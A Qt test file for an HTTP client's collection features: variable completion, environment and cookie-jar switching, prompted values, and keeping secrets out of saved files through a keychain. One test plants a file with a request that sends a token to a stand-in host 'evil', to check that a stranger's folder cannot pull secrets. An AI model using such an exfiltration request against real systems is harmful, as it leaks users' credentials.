// Values of a collection as a person uses them: variables are offered and filled in, environments and their
// jars chosen and edited, secrets kept out of files, what a file wants asked for is asked.
#include <QComboBox>
#include <QTableWidget>
#include <QtTest/QtTest>

#include "tests/ui/panes/web/collection_test.h"
#include "ui/panes/web/body_tab.h"
#include "ui/panes/web/collection/environment_window.h"
#include "ui/panes/web/collection/keychain.h"
#include "ui/panes/web/collection/prompt_bar.h"
#include "ui/panes/web/collection/variable_help.h"
#include "ui/panes/web/cookie_model.h"
#include "ui/panes/web/cookies_tab.h"
#include "ui/panes/web/pairs_table.h"
#include "ui/panes/web/request_panel.h"
#include "ui/widgets/code_editor.h"

using namespace lw;
using namespace lw::ui;

class TestCollectionValues : public lw::test::CollectionTest {
  Q_OBJECT

 private Q_SLOTS:
  void init() { begin(); }
  void cleanup() { remove_pane(); }

  void variables_are_filled_in_when_it_is_sent() {
    open("GET  Hello", "Hello.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(pane_->hint().contains("{{base}}"));
    QVERIFY(server_->requests().isEmpty());
    choose_environment("dev");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    QVERIFY(server_->requests()[0].startsWith("GET /hello HTTP/1.1"));
    // The next one uses what was answered.
    open("GET  Item", "folder/two.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 2);
    QVERIFY(server_->requests()[1].startsWith("GET /item/7 "));
    QCOMPARE(pane_->url().text(), "{{base}}/item/{{hello.response.body.$.id}}");
  }

  void secrets_do_not_reach_the_file() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.base.auth = {.kind = http::AuthKind::basic, .user = "me", .password = "geheim"};
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("Authorization: Basic me {{password}}"));
    QVERIFY(!contents("Hello.http").contains("geheim"));
    QVERIFY(offer_text().contains("A file holds no secrets"));
    // No remark hides the offer.
    side().import_text("nonsense", "a test");
    QTRY_VERIFY(bar_text().contains("can't be imported"));
    QVERIFY(offer_text().contains("{{password}}"));
    press_bar("Keep in the keychain");
    QTRY_VERIFY(bar_text().contains("no keychain that answers"));
    QTRY_VERIFY(contents("http-client.env.json").contains("{{$keychain}}"));
    QVERIFY(!contents("http-client.env.json").contains("geheim"));
    QVERIFY(side().variable_tip("password").contains("••"));
  }

  void secrets_are_for_their_collection_and_environment() {
    write("http-client.env.json", "{\"dev\": {\"base\": \"" + server_->url("").toUtf8() +
                                      "\", \"token\": \"plain\"}, \"prod\": {\"token\": \"{{$keychain}}\"}}");
    Keychain::instance().write(place().chopped(1) + "#prod", "token", "geheim", [](bool) {});
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
    environment("dev");
    QCOMPARE(filled("http://h/{{token}}"), "http://h/plain");
    open("GET  Hello", "Hello.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(filled("http://h/{{hello.response.body.$.id}}"), "http://h/7");
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
    QVERIFY(filled("http://h/{{hello.response.body.$.id}}").contains("can't be sent"));
    environment("dev");
    // A stranger's, with an environment of the same name.
    QDir().mkpath(folder_->filePath("stranger"));
    QFile file(folder_->filePath("stranger/a.http"));
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("GET https://evil/?t={{token}}\n");
    file.close();
    environment("prod");
    side().open_folder(folder_->filePath("stranger"));
    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
    QTRY_COMPARE(rows(), QStringList{"GET  a"});
    QVERIFY(filled("http://h/{{token}}").contains("{{token}}"));
    side().open_folder(place().chopped(1));
    environment("prod");
    QTRY_COMPARE(filled("http://h/{{token}}"), "http://h/geheim");
  }

  void secrets_of_switched_off_headers_do_not_reach_the_file() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.headers.push_back({false, "X-Api-Key", "geheim"});
    form.headers.push_back({false, "X-Off", "plain"});
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("# X-Off: plain"));
    QVERIFY(contents("Hello.http").contains("# X-Api-Key: {{x_api_key}}"));
    QVERIFY(!contents("Hello.http").contains("geheim"));
    QCOMPARE(filled("http://h/{{x_api_key}}"), "http://h/geheim");
  }

  void secrets_of_queries_do_not_reach_the_file() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.base.url = "{{base}}/hello?q=1&api_key=geheim";
    pane_->show_form(form);
    form = pane_->form();
    form.params.push_back({false, "token", "leise", "token=leise"});
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("{{base}}/hello?q=1&api_key={{api_key}}"));
    QVERIFY2(contents("Hello.http").contains("token={{token}}"), contents("Hello.http"));
    QVERIFY(!contents("Hello.http").contains("geheim") && !contents("Hello.http").contains("leise"));
    QVERIFY2(offer_text().contains("the parameter api_key as {{api_key}}"), qPrintable(offer_text()));
    QCOMPARE(filled("http://h/{{api_key}}{{token}}"), "http://h/geheimleise");
    QTRY_VERIFY(!side().modified());
  }

  void names_of_variables_are_offered() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    QVERIFY(help);
    pane_->url().setFocus();
    pane_->url().clear();
    pane_->url().remember("{{base}}/hello");
    QTest::keyClicks(&pane_->url(), "{{ba");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    // The URLs that were used before do not lie on it.
    QVERIFY(!pane_->url().completer()->popup()->isVisible());
    QTest::keyClick(help->completer().popup(), Qt::Key_Down);
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(pane_->url().text(), "{{base}}");
    QVERIFY(side().variable_tip("base").contains(server_->url("")));
  }

  void names_are_offered_in_the_body_too() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    auto& body = pane_->request().body();
    pane_->request().setCurrentWidget(&body);
    auto* kind = body.findChild<QComboBox*>();
    kind->setFocus();
    QTest::keyClick(kind, Qt::Key_Down);  // JSON
    body.editor()->setFocus();
    QTest::keyClicks(body.editor()->input(), "{\"a\": \"{{bas");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    // With what it stands for.
    QVERIFY(help->completer().popup()->model()->index(0, 0).data().toString().contains(server_->url("")));
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(body.editor()->text(), "{\"a\": \"{{base}}");
    QTest::keyClicks(body.editor()->input(), "\"}");
    QVERIFY(!help->completer().popup()->isVisible());
    QCOMPARE(body.editor()->text(), "{\"a\": \"{{base}}\"}");
  }

  void names_are_offered_in_the_table_of_headers() {
    choose_environment("dev");
    auto* help = pane_->findChild<VariableHelp*>();
    auto& headers = pane_->request().headers();
    pane_->request().setCurrentWidget(&headers);
    headers.model().set_rows({{true, "X-Base", ""}});
    const QModelIndex cell = headers.model().index(0, PairsModel::kValue);
    headers.view()->setFocus();
    headers.view()->setCurrentIndex(cell);
    headers.view()->edit(cell);
    auto* field = headers.view()->findChild<QLineEdit*>();
    QVERIFY(field);
    QTest::keyClicks(field, "at {{bas");
    QTRY_VERIFY(help->completer().popup()->isVisible());
    QTest::keyClick(help->completer().popup(), Qt::Key_Return);
    QCOMPARE(field->text(), "at {{base}}");
    QTest::keyClick(field, Qt::Key_Return);
    QTRY_COMPARE(headers.model().rows()[0].value, "at {{base}}");
  }

  void secrets_are_bullets_where_names_are_offered() {
    open("GET  Hello", "Hello.http");
    RequestForm form = pane_->form();
    form.base.auth = {.kind = http::AuthKind::basic, .user = "me", .password = "geheim"};
    pane_->show_form(form);
    side().save();
    QTRY_VERIFY(contents("Hello.http").contains("{{password}}"));
    QCOMPARE(side().variable_value("password"), "••••••");
  }

  void the_jar_follows_the_environment() {
    auto& cookies = pane_->request().cookies();
    QCOMPARE(cookies.jar(), "default");
    server_->answer_text("/hello", "text/plain", "x", "Set-Cookie: who=dev; Max-Age=1000\r\n");
    choose_environment("dev");
    QCOMPARE(cookies.jar(), "c dev");
    open("GET  Hello", "Hello.http");
    QCOMPARE(cookies.jar(), "c dev");
    QVERIFY(!side().modified());
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    pane_->request().setCurrentWidget(&cookies);
    QTRY_COMPARE(cookies.model().rowCount(), 1);
    QVERIFY2(cookies.said()->text().contains("“dev”"), qPrintable(cookies.said()->text()));
    // Another environment has another jar, in the editor and on the wire.
    choose_environment("other");
    QCOMPARE(cookies.jar(), "c other");
    QTRY_COMPARE(cookies.model().rowCount(), 0);
    pane_->url().setText(server_->url("/hello"));
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 2);
    QVERIFY(!server_->requests()[1].contains("Cookie:"));
    QTRY_VERIFY(!pane_->busy());
    choose_environment("dev");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_COMPARE(server_->requests().size(), 3);
    QVERIFY(server_->requests()[2].contains("Cookie: who=dev"));
    choose_environment("No environment");
    QCOMPARE(cookies.jar(), "default");
  }

  void what_a_file_wants_asked_for_is_asked() {
    server_->answer_text("/hello?who=anna&otp=123456", "text/plain", "x");
    write("Ask.http", "# @prompt who Your name\n# @prompt otp\nGET {{base}}/hello?who={{who}}&otp={{otp}}\n");
    choose_environment("dev");
    open("GET  Ask", "Ask.http");
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    PromptBar& bar = pane_->prompts();
    QTRY_VERIFY(bar.isVisible());
    QCOMPARE(bar.fields().size(), 2);
    QCOMPARE(bar.fields()[0]->accessibleName(), "Your name");
    QCOMPARE(bar.fields()[1]->echoMode(), QLineEdit::Password);
    // Nothing else stands still; Escape leaves it.
    QVERIFY(server_->requests().isEmpty() && !pane_->busy());
    QTest::keyClick(bar.fields()[0], Qt::Key_Escape);
    QVERIFY(!bar.isVisible());
    QTest::mouseClick(&pane_->send_button(), Qt::LeftButton);
    QTRY_VERIFY(bar.isVisible());
    QTest::keyClicks(bar.fields()[0], "anna");
    QTest::keyClick(bar.fields()[0], Qt::Key_Return);
    QTest::keyClicks(bar.fields()[1], "123456");
    QTest::keyClick(bar.fields()[1], Qt::Key_Return);
    QTRY_VERIFY(!server_->requests().isEmpty() && !pane_->busy());
    QVERIFY(server_->requests()[0].startsWith("GET /hello?who=anna&otp=123456 "));
    // The name is offered again, the secret is not; a run asks as well.
    side().run("Ask.http");
    QTRY_VERIFY(bar.isVisible());
    QCOMPARE(bar.fields()[0]->text(), "anna");
    QCOMPARE(bar.fields()[1]->text(), QString());
    QTest::keyClick(bar.fields()[0], Qt::Key_Return);
    QTest::keyClicks(bar.fields()[1], "123456");
    QTest::keyClick(bar.fields()[1], Qt::Key_Return);
    QTRY_VERIFY(bar_text().contains("1 of 1 passed"));
  }

  void environments_are_edited() {
    choose_environment("dev");
    Q_EMIT side().environment().activated(side().environment().count() - 1);
    auto* window = side().findChild<EnvironmentWindow*>();
    QVERIFY(window && window->isVisible());
    QCOMPARE(window->names().currentText(), "dev");
    QTableWidget& table = window->table();
    const int last = table.rowCount() - 1;
    table.setCurrentCell(last, 0);
    table.item(last, 1)->setText("v1");
    table.item(last, 0)->setText("extra");
    table.setCurrentCell(0, 0);
    QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"v1\""));
    table.item(last, 2)->setCheckState(Qt::Checked);
    QTRY_VERIFY(contents("http-client.env.json").contains("\"extra\": \"{{$keychain}}\""));
    QVERIFY(contents("http-client.env.json").contains("\"other\""));
    QTRY_VERIFY(side().variable_tip("extra").contains("secret"));
  }

  void secrets_are_edited_without_a_trace_in_the_file() {
    environment("dev");
    Q_EMIT side().environment().activated(side().environment().count() - 1);
    auto* window = side().findChild<EnvironmentWindow*>();
    QVERIFY(window && window->isVisible());
    QTableWidget& table = window->table();
    const QString keys = place().chopped(1) + "#dev";
    const auto kept = [&keys](const QString& name) {
      QString value = "none";
      Keychain::instance().read(keys, name, [&value](const QString* found) {
        if (found != nullptr) value = *found;
      });
      return value;
    };
    // The name and the value are typed before it is ticked.
    int at = table.rowCount() - 1;
    table.setCurrentCell(at, 0);
    table.item(at, 0)->setText("pin");
    table.item(at, 1)->setText("geheim");
    QVERIFY(!std::ranges::any_of(side().store().own_environments(),
                                 [](const auto& one) { return one.values.contains("pin"); }));
    table.item(at, 2)->setCheckState(Qt::Checked);
    table.setCurrentCell(0, 0);
    QCOMPARE(kept("pin"), "geheim");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"pin\": \"{{$keychain}}\""));
    // Another name takes its value along.
    table.setCurrentCell(at, 0);
    table.item(at, 0)->setText("code");
    table.setCurrentCell(0, 0);
    QCOMPARE(kept("code"), "geheim");
    QCOMPARE(kept("pin"), "none");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"{{$keychain}}\""));
    QVERIFY(!contents("http-client.env.json").contains("geheim"));
    QTRY_COMPARE(filled("http://h/{{code}}"), "http://h/geheim");
    // No secret any more: its value, and not its bullets.
    table.item(at, 2)->setCheckState(Qt::Unchecked);
    QCOMPARE(table.item(at, 1)->text(), "geheim");
    QTRY_VERIFY(contents("http-client.env.json").contains("\"code\": \"geheim\""));
    QCOMPARE(kept("code"), "none");
    // One that is not in the keychain stays what it is.
    write("http-client.env.json", "{\"dev\": {\"base\": \"b\", \"lost\": \"{{$keychain}}\"}}");
    QTRY_VERIFY(side().store().merged().secrets.contains("lost"));
    window->show_environment("dev");
    at = table.rowCount() - 2;
    QCOMPARE(table.item(at, 0)->text(), "lost");
    table.item(at, 2)->setCheckState(Qt::Unchecked);
    QCOMPARE(table.item(at, 2)->checkState(), Qt::Checked);
    QVERIFY(bar_text().contains("type it again"));
  }
};

QTEST_MAIN(TestCollectionValues)
#include "test_collection_values.moc"
